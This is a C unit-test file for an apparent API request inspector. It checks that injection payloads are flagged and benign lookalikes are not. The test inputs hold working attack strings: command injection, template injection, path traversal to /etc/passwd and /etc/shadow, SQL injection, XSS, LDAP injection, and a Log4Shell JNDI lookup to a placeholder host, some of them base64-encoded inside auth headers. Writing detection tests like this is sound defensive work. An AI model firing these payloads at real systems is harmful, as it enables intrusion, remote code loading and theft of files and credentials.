/* SPDX-License-Identifier: Apache-2.0 */
/* What stands in fields and calls made for it is no attack; the same packed, or in credentials, is. */
#include "analytics/inspect/packed.h"
#include "inspect_bench.h"

static void attack(void **state, const char *key, const char *value, const char *rule) {
  const char *id = judge_named(*state, PLACE_BODY, key, value, NULL, NULL);
  if (strcmp(id, rule) != 0) fail_msg("%s: %s: \"%s\", expected %s", key, value, id, rule);
}

static void harmless(void **state, const char *key, const char *value) { attack(state, key, value, ""); }

static void test_words_joined(void **state) {
  static const char *const titles[] = {"News & more",     "50% off & more",   "Bed & breakfast & date",
                                       "find more; less", "date; time; host", "test & link",
                                       "top & tail"};
  for (size_t i = 0; i < sizeof titles / sizeof *titles; i++) harmless(state, "q", titles[i]);
  attack(state, "q", "x;id", "cmdi");
  attack(state, "q", "127.0.0.1 && whoami", "cmdi");
  attack(state, "q", "a | sort /tmp/x", "cmdi");
}

static void test_types(void **state) {
  harmless(state, "returnType", "java.util.List<java.lang.String>");
  harmless(state, "type", "java.lang.NullPointerException");
  harmless(state, "message", "java.lang.IllegalStateException: Fragment not attached");
  attack(state, "type", "java.lang.Runtime", "java_injection");
  attack(state, "q", "java.lang.String", "java_injection");
  attack(state, "type", "java.lang.ProcessBuilder", "java_injection");
}

static void test_templates(void **state) {
  harmless(state, "template", "<%= user.name %>");
  harmless(state, "sms", "{% if vip %}Hello{% else %}Hi{% endif %}");
  harmless(state, "tpl", "{% for i in items %}{{ i.name }}{% endfor %}");
  attack(state, "template", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "ssti");
  attack(state, "template", "<%= 7*7 %>", "ssti");
  attack(state, "q", "<%= user.name %>", "ssti");
}

static void test_paths(void **state) {
  harmless(state, "mountPath", "/etc/app/config.yaml");
  harmless(state, "path", "/var/log/nginx/access.log");
  harmless(state, "source", "/tmp/upload/a.jpg");
  attack(state, "path", "/etc/passwd", "traversal");
  attack(state, "path", "/var/log/../../etc/shadow", "traversal");
}

static void test_passwords(void **state) {
  harmless(state, "password", "2JHw*|'#hS6$Y");
  attack(state, "password", "x'#", "sqli");
  attack(state, "password", "' or 1=1#", "sqli");
}

static void test_packed(void **state) {
  attack(state, "q", "OyBjYXQgL2V0Yy9wYXNzd2Q", "cmdi");            /* ; cat /etc/passwd, no padding */
  attack(state, "q", "3b20636174202f6574632f706173737764", "cmdi"); /* the same in hexadecimal */
  attack(state, "q", "UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09", "xss"); /* twice */
  assert_string_equal(judge(*state, PLACE_PATH, "/v1/items/JyBvciAnMSc9JzEnIC0tIA==/view", NULL, NULL),
                      "sqli");
  assert_string_equal(judge(*state, PLACE_QUERY, "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", NULL, NULL), "xss");
  harmless(state, "id", "d41d8cd98f00b204e9800998");
  harmless(state, "token", "q8Zk2LxP0vRtYw7uJh3N");
  harmless(state, "name", "internationalization");
  assert_false(packed_hint(SPAN_LIT("0123456789abcdef")));
  attack(state, "q", "admin)(&)", "ldapi");
}

static void test_basic(void **state) {
  uint8_t buf[64];
  struct span user, password;
  (void)state;
  assert_true(packed_basic(SPAN_LIT("Basic Ym9iOmE6Yg=="), buf, sizeof buf, &user, &password));
  assert_true(span_eq(user, SPAN_LIT("bob")) && span_eq(password, SPAN_LIT("a:b")));
  assert_false(packed_basic(SPAN_LIT("Bearer Ym9iOmE6Yg=="), buf, sizeof buf, &user, &password));
  assert_false(packed_basic(SPAN_LIT("Basic !"), buf, sizeof buf, &user, &password));
}

/* Id of the attack in a call with one header and one field of the body. */
static const char *call(struct bench *b, const char *path, const char *auth, const char *field) {
  static char id[64];
  struct txn t = {.kind = TXN_CALL, .status = 200, .method = SPAN_LIT("POST"), .path = span_str(path)};
  struct api_event e = {.txn = &t};
  arena_init(&t.arena, NULL, 0);
  for (int d = 0; d < 2; d++) {
    buf_init(&t.side[d].raw, NULL, 0), buf_init(&t.side[d].decoded, NULL, 0);
    t.side[d].seen = t.side[d].complete = true;
  }
  if (auth) txn_header(&t, &t.side[0].headers, SPAN_LIT("Authorization"), span_str(auth));
  inspect_begin(b->in, &t, &e);
  struct leaf l = {.path = SPAN_LIT("x"), .key = SPAN_LIT("x"), .type = LEAF_STRING};
  l.value = l.raw = span_str(field);
  inspect_value(b->in, PLACE_BODY, &l);
  inspect_call(b->in);
  id[0] = 0;
  for (const struct signal *s = e.signals; s; s = s->next) {
    if (s->rule->category == CATEGORY_ATTACK) strncpy(id, s->rule->id, sizeof id - 1);
    for (uint8_t i = 0; i < s->nevidence; i++) /* no password stands in what is told */
      assert_true(span_find(s->evidence[i].what, SPAN_LIT("S3cretWord")) >= s->evidence[i].what.len);
  }
  arena_done(&t.arena);
  return id;
}

static void test_calls(void **state) {
  /* ${jndi:ldap://x.example/a}:x and a plain user */
  assert_string_equal(call(*state, "/a", "Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06eA==", "a"), "log4shell");
  assert_string_equal(call(*state, "/a", "Basic Ym9iOnNlY3JldA==", "a"), "");
  assert_string_equal(call(*state, "/a", "Bearer ' union select 1,2 from users-- ", "a"), "sqli");
  /* bob:S3cretWord' or '1'='1 */
  assert_string_equal(call(*state, "/a", "Basic Ym9iOlMzY3JldFdvcmQnIG9yICcxJz0nMQ==", "a"), "sqli");
  assert_string_equal(call(*state, "/a", "Bearer S3cretWord' or '1'='1", "a"), "sqli");
  const char *line = "GET /?q=<script>alert(1)</script>&id=1' or '1'='1 403";
  assert_string_equal(call(*state, "/logs/_bulk", NULL, line), "");
  assert_string_equal(call(*state, "/api/3/store/", NULL, line), "");
  assert_string_not_equal(call(*state, "/store/api/x/", NULL, line), "");
  assert_string_not_equal(call(*state, "/v1/items", NULL, line), "");
  assert_string_equal(call(*state, "/logs/_bulk", NULL, "${jndi:ldap://x.example/a}"), "log4shell");
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_words_joined), cmocka_unit_test(test_types),     cmocka_unit_test(test_templates),
      cmocka_unit_test(test_paths),        cmocka_unit_test(test_passwords), cmocka_unit_test(test_packed),
      cmocka_unit_test(test_basic),        cmocka_unit_test(test_calls),
  };
  return cmocka_run_group_tests(tests, setup, teardown);
}
